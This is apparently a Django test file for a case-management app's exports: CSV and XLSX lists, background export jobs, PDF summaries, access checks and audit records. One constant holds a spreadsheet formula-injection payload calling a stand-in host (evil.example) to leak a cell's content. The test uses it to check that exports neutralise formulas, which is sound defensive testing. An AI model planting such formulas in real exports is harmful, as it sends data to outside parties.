"""The case list as CSV and XLSX, and one case's summary as a printable page and a PDF: exactly
what the reader sees on screen, filtered as on screen, no formula, who made it first, recorded;
a long list made in the background with a link for the asker alone, deleted when it expires."""

import csv
import datetime
import io
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from agencies.models import User
from audit.models import AuditEvent
from cases import services
from cases.models import Case, CaseNote, ExportJob
from tests.conftest import api_as
from tests.factories import CaseFactory

pytestmark = pytest.mark.django_db

SECRET = "Zebracontent of the note"
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1, "Open")'


def _client(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _rows(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def noted_case(case: Case) -> Case:
    """The case with a note in its file, written through the service as the owner would."""
    services.record_note(CaseNote(case=case, text=SECRET), actor=case.owner)
    return case


def test_the_csv_holds_the_list_as_filtered_with_who_made_it_on_the_first_line(
    noted_case: Case, caseworker: User
) -> None:
    # given two cases of the owner, at different steps
    stage = next(value for value in Case.Stage.values if value != noted_case.stage)
    other = CaseFactory(owner=caseworker, owning_agency=noted_case.owning_agency, stage=stage)
    # when she exports the list filtered to the first one's step
    response = _client(caseworker).get(reverse("cases:case_list_export"), {"format": "csv", "stage": noted_case.stage})
    # then the file holds that case alone, after a line saying who made it, and the list's columns
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = _rows(response)
    assert rows[0][0].startswith(f"Case list exported by {caseworker.full_name} on ")
    assert "1 cases" in rows[0][0] and "Stage:" in rows[0][0]
    assert rows[1][:12] == [
        "Reference", "Family", "Status", "Index person", "Age", "Stage", "Risk level", "Owner", "Owning agency",
        "Next step", "Next review", "Access",
    ]  # fmt: skip
    references = [row[0] for row in rows[2:]]
    assert references == [noted_case.reference]
    assert other.reference not in response.content.decode()
    assert rows[2][11] == "Full case file"


def test_a_summary_readers_export_carries_only_what_the_list_shows_them(noted_case: Case, summary_reader: User) -> None:
    response = _client(summary_reader).get(reverse("cases:case_list_export"), {"format": "csv"})
    rows = _rows(response)
    assert [row[0] for row in rows[2:]] == [noted_case.reference]
    assert rows[2][11] == "Summary only"
    assert SECRET not in response.content.decode()
    # the same columns, in the same words, as the list page shows the reader
    page = _client(summary_reader).get(reverse("cases:case_list")).content.decode()
    for cell in rows[2][:2] + rows[2][5:7]:
        assert cell in page


def test_a_stranger_exports_an_empty_list(noted_case: Case, stranger: User) -> None:
    response = _client(stranger).get(reverse("cases:case_list_export"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == 2  # who made it, then the header
    assert noted_case.reference.encode() not in response.content


def test_every_xlsx_cell_is_text_and_never_a_formula(case: Case, caseworker: User) -> None:
    Case.objects.filter(pk=case.pk).update(next_step=HYPERLINK)
    response = _client(caseworker).get(reverse("cases:case_list_export"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert "'" + HYPERLINK in [cell.value for cell in cells]


def test_an_export_is_recorded_with_its_row_count_and_cases(noted_case: Case, caseworker: User) -> None:
    _client(caseworker).get(reverse("cases:case_list_export"), {"format": "csv"})
    event = AuditEvent.objects.get(action=AuditEvent.Action.CASE_LIST_EXPORTED)
    assert event.actor == caseworker
    assert event.data["count"] == 1 and event.data["ids"] == [noted_case.pk] and event.data["format"] == "csv"


def test_filters_the_list_refuses_export_nothing(case: Case, caseworker: User) -> None:
    response = _client(caseworker).get(reverse("cases:case_list_export"), {"format": "csv", "owner": "#999999"})
    assert response.status_code == 400
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.CASE_LIST_EXPORTED).exists()
    response = _client(caseworker).get(reverse("cases:case_list_export"), {"format": "pdf"})
    assert response.status_code == 400


def test_the_export_speaks_the_readers_language(case: Case, caseworker: User) -> None:
    User.objects.filter(pk=caseworker.pk).update(language="sq")
    caseworker.refresh_from_db()
    response = _client(caseworker).get(reverse("cases:case_list_export"), {"format": "csv"})
    rows = _rows(response)
    assert rows[1][0] == "Referenca"
    assert "Lista e rasteve u eksportua nga" in rows[0][0]


def test_a_long_export_runs_in_the_background_with_a_link_for_the_asker_alone(
    noted_case: Case,
    caseworker: User,
    colleague: User,
    settings: Any,
    django_capture_on_commit_callbacks: Any,
) -> None:
    settings.URA_EXPORT_BACKGROUND_ROWS = 0
    client = _client(caseworker)
    url = reverse("cases:case_list_export")
    # given a list longer than the threshold: the page asks to make it in the background
    asked = client.get(url, {"format": "xlsx", "stage": noted_case.stage})
    assert asked.status_code == 200 and 'name="stage"' in asked.content.decode()
    # when she confirms, the worker makes it (eagerly here) and she follows its progress
    with django_capture_on_commit_callbacks(execute=True):
        confirmed = client.post(url, {"format": "xlsx", "stage": noted_case.stage})
    job = ExportJob.objects.get()
    assert confirmed.status_code == 302 and confirmed.url == job.get_absolute_url()
    job.refresh_from_db()
    assert job.status == "done" and job.done == 1 and job.requested_by == caseworker
    assert job.expires_at is not None and job.expires_at > timezone.now() + datetime.timedelta(hours=23)
    page = client.get(job.get_absolute_url()).content.decode()
    assert reverse("cases:export_file", args=[job.pk]) in page
    download = client.get(reverse("cases:export_file", args=[job.pk]))
    body = b"".join(download.streaming_content)
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet.cell(row=3, column=1).value == noted_case.reference
    event = AuditEvent.objects.get(action=AuditEvent.Action.CASE_LIST_EXPORTED)
    assert event.data["count"] == 1 and event.data["job"] == job.pk
    # then nobody else reaches the job or its file
    other = _client(colleague)
    assert other.get(job.get_absolute_url()).status_code == 404
    assert other.get(reverse("cases:export_file", args=[job.pk])).status_code == 404
    assert api_as(colleague).get(reverse("cases-api:export-job", args=[job.pk])).status_code == 404
    # and once the link has expired, the file is deleted and the link says so
    name = job.file.name
    assert services.expire_exports(timezone.now() + datetime.timedelta(hours=25)) == 1
    assert not default_storage.exists(name)
    assert client.get(reverse("cases:export_file", args=[job.pk])).status_code == 410
    assert services.expire_exports(timezone.now() + datetime.timedelta(hours=25)) == 0


def test_the_progress_page_polls_while_the_export_runs(case: Case, caseworker: User) -> None:
    job = services.start_export(caseworker, filters={}, fmt="csv")  # not run: no commit in this test
    response = _client(caseworker).get(job.get_absolute_url(), headers={"HX-Request": "true"})
    assert 'hx-trigger="every 2s"' in response.content.decode()
    assert "<progress" in response.content.decode()


def test_an_export_asked_while_the_broker_is_down_is_made_by_the_sweep(
    case: Case,
    caseworker: User,
    settings: Any,
    monkeypatch: pytest.MonkeyPatch,
    django_capture_on_commit_callbacks: Any,
) -> None:
    from celery.app.task import Task
    from kombu.exceptions import OperationalError as BrokerDown

    def broker_down(*args: Any, **kwargs: Any) -> None:
        raise BrokerDown("Error 111 connecting to 127.0.0.1:6379. Connection refused.")

    settings.URA_EXPORT_BACKGROUND_ROWS = 0
    # given the broker is down when she asks for a long export: she is shown its page, not an error
    with monkeypatch.context() as patched:
        patched.setattr(Task, "apply_async", broker_down)
        with django_capture_on_commit_callbacks(execute=True):
            confirmed = _client(caseworker).post(reverse("cases:case_list_export"), {"format": "csv"})
    job = ExportJob.objects.get()
    assert confirmed.status_code == 302 and confirmed.url == job.get_absolute_url()
    from cases.tasks import run_waiting_jobs_task

    # when beat's sweep finds it waiting over a minute, a worker makes it
    ExportJob.objects.update(created_at=timezone.now() - datetime.timedelta(minutes=2))
    assert run_waiting_jobs_task() == 1
    job.refresh_from_db()
    assert job.status == "done" and job.done == 1


def test_a_job_claimed_once_is_not_made_twice(case: Case, caseworker: User) -> None:
    job = services.start_export(caseworker, filters={}, fmt="csv")
    assert services.run_export(job.pk) is not None
    assert services.run_export(job.pk) is None
    assert AuditEvent.objects.filter(action=AuditEvent.Action.CASE_LIST_EXPORTED).count() == 1


def test_the_api_exports_the_list_as_csv_and_xlsx(noted_case: Case, caseworker: User) -> None:
    client = api_as(caseworker)
    as_csv = client.get(reverse("cases-api:case-export"), {"format": "csv"})
    assert as_csv.status_code == 200 and as_csv["Content-Type"].startswith("text/csv")
    assert noted_case.reference in as_csv.content.decode("utf-8-sig")
    as_xlsx = client.get(reverse("cases-api:case-export"), {"format": "xlsx"})
    assert as_xlsx.status_code == 200 and "spreadsheetml" in as_xlsx["Content-Type"]
    refused = client.get(reverse("cases-api:case-export"), {"format": "csv", "owner": "#999999"})
    assert refused.status_code == 400 and refused["Content-Type"] == "application/json"


def test_the_api_answers_a_long_export_with_its_job(
    noted_case: Case, caseworker: User, settings: Any, django_capture_on_commit_callbacks: Any
) -> None:
    settings.URA_EXPORT_BACKGROUND_ROWS = 0
    client = api_as(caseworker)
    with django_capture_on_commit_callbacks(execute=True):
        answer = client.get(reverse("cases-api:case-export"), {"format": "csv"})
    assert answer.status_code == 202
    job = client.get(answer.json()["url"]).json()
    assert job["status"] == "done" and job["done"] == 1
    file = client.get(job["download"])
    assert noted_case.reference in b"".join(file.streaming_content).decode("utf-8-sig")


def test_the_printed_summary_holds_the_summary_and_no_file_content(noted_case: Case, summary_reader: User) -> None:
    client = _client(summary_reader)
    page = client.get(reverse("cases:case_summary", args=[noted_case.pk]))
    text = page.content.decode()
    assert page.status_code == 200
    assert noted_case.reference in text and "Case summary made by" in text
    assert SECRET not in text
    pdf = client.get(reverse("cases:case_summary", args=[noted_case.pk]), {"format": "pdf"})
    assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")
    assert b"DejaVuSans" in pdf.content  # the font is embedded: ë and ç print on any machine
    # both are in the case's access log, as exports of it
    events = AuditEvent.objects.reads_of_case(noted_case.pk).filter(action=AuditEvent.Action.CASE_SUMMARY_EXPORTED)
    assert events.count() == 2


def test_the_api_gives_the_summary_as_a_pdf(case: Case, summary_reader: User, stranger: User) -> None:
    answer = api_as(summary_reader).get(reverse("cases-api:case-summary", args=[case.pk]))
    assert answer.status_code == 200 and answer.content.startswith(b"%PDF")
    assert api_as(stranger).get(reverse("cases-api:case-summary", args=[case.pk])).status_code == 404


def test_each_demo_users_export_lists_exactly_the_cases_they_may_see_at_their_level(demo: dict[str, User]) -> None:
    from tests.test_demo_permissions import EXPECTED

    for username, (full, summary) in EXPECTED.items():
        user = demo[username]
        if not user.has_perm("cases.view_case_summary"):
            continue
        rows = _rows(_client(user).get(reverse("cases:case_list_export"), {"format": "csv"}))[2:]
        levels = {row[1]: row[11] for row in rows}
        assert {family for family, level in levels.items() if level == "Full case file"} == full, username
        assert {family for family, level in levels.items() if level == "Summary only"} == summary, username


def test_a_filter_given_twice_is_read_by_the_export_as_by_the_list(noted_case: Case, caseworker: User) -> None:
    """The export link carries the list's query string as it is: a filter given twice, the last
    value empty (`?agency=5&agency=`), is the list's last value (no filter), not the first."""
    # given a second case of another step, and the list asked with a step, then an agency twice
    stage = next(value for value in Case.Stage.values if value != noted_case.stage)
    other = CaseFactory(owner=caseworker, owning_agency=noted_case.owning_agency, stage=stage)
    client = _client(caseworker)
    chosen = f"%23{noted_case.owning_agency_id}"  # "#5", the suggestion's form
    for query in (f"agency={chosen}&agency=", f"agency=&agency={chosen}", f"stage={stage}&agency=%23999&agency="):
        listed = {case.reference for case in client.get(reverse("cases:case_list") + "?" + query).context["cases"]}
        exported = client.get(reverse("cases:case_list_export") + "?format=csv&" + query)
        # then the file holds the cases the list shows, no more, no fewer
        assert {row[0] for row in _rows(exported)[2:] if row} == listed, query
    assert listed == {other.reference}


def test_a_step_given_empty_is_refused_by_the_export_as_by_the_list(noted_case: Case, caseworker: User) -> None:
    """A filter of several values is read whole by the list, an empty value too (`?stage=2&stage=`,
    `?stage=`): the list refuses it (400, no rows), and so must the export, not drop the empty value
    and export the step's cases, or every case."""
    stage = next(value for value in Case.Stage.values if value != noted_case.stage)
    CaseFactory(owner=caseworker, owning_agency=noted_case.owning_agency, stage=stage)
    client = _client(caseworker)
    for query in (f"stage={stage}&stage=", "stage=", "risk_level="):
        page = client.get(reverse("cases:case_list") + "?" + query)
        listed = {case.reference for case in page.context["cases"]}
        exported = client.get(reverse("cases:case_list_export") + "?format=csv&" + query)
        # then the export gives the list's answer: refused as the list is, or the rows it shows
        assert page.status_code == 400 and not listed, query
        assert exported.status_code == 400, (query, exported.status_code, _rows(exported)[2:])
